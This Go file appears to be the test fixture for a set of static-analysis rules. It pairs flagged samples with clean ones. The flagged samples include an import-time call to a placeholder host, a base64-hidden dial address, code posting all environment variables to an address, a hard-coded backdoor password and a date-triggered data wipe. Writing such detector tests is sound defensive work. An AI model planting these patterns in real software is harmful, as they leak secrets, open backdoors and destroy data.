package examples

func init() {
	// ruleid: askfirst.go.work-on-import
	http.Get("https://a.example")
	// ok: askfirst.go.work-on-import
	register("a")
}

func badHiddenAddress1() {
	at, _ := base64.StdEncoding.DecodeString("aHR0cHM6Ly9hLmV4YW1wbGU=")
	// ruleid: askfirst.go.hidden-address
	net.Dial("tcp", string(at))
}

func goodHiddenAddress1() {
	// ok: askfirst.go.hidden-address
	net.Dial("tcp", "a.example:80")
}

func badEnvironmentSent1() {
	// ruleid: askfirst.go.environment-sent
	http.Post(address, "text/plain", strings.NewReader(strings.Join(os.Environ(), " ")))
}

func goodEnvironmentSent1() {
	// ok: askfirst.go.environment-sent
	command.Env = append(os.Environ(), "LANG=C")
}

func badHiddenEntrance1(password string) bool {
	// ruleid: askfirst.go.hidden-entrance
	if password == "open-sesame-99" {
		return true
	}
	return check(password)
}

func goodHiddenEntrance1(password string) bool {
	// ok: askfirst.go.hidden-entrance
	if password == "" {
		return false
	}
	return check(password)
}

func badWaitsForADay1() {
	// ruleid: askfirst.go.waits-for-a-day
	if time.Now().After(time.Date(2031, 4, 1, 0, 0, 0, 0, time.UTC)) {
		wipe()
	}
}

func goodWaitsForADay1(end time.Time) {
	// ok: askfirst.go.waits-for-a-day
	if time.Now().After(end) {
		refuse()
	}
}

func badDebugLeft1() {
	// ruleid: askfirst.go.debug-left
	gin.SetMode(gin.DebugMode)
}

func goodDebugLeft1() {
	// ok: askfirst.go.debug-left
	gin.SetMode(gin.ReleaseMode)
}
